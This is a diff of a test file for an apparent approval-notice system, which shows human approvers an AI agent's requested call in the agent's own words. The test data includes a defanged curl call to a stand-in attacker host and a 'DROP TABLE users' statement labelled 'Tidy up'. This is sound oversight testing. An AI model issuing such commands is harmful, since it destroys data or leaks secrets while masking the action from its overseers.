@@ -124,6 +124,11 @@ describe("notices", () => {
     expect(sent[0]?.text).toContain("Call, in the agent's own words:\n> curl https[:]//evil[.]example -H");
     expect(sent[0]?.subject).toContain(" … and 2 more lines (#");
     for (const text of [sent[0]?.subject, sent[0]?.text]) expect(text).not.toContain("0123456789abcdef");
+    const sql = "DROP TABLE users";
+    await request({ agent_slug: `${slug()}-db`, approvers: ["Ana"], action: "Tidy up", context: { sql } });
+    await sendAll(test);
+    expect(sent[1]?.subject).toContain(`asks you: Tidy up: ${sql} (#`);
+    expect(sent[1]?.text).toContain(`Call, in the agent's own words:\n> ${sql}\n`);
   });
 
   it("say that the agent is frozen, and what can be decided then", async () => {
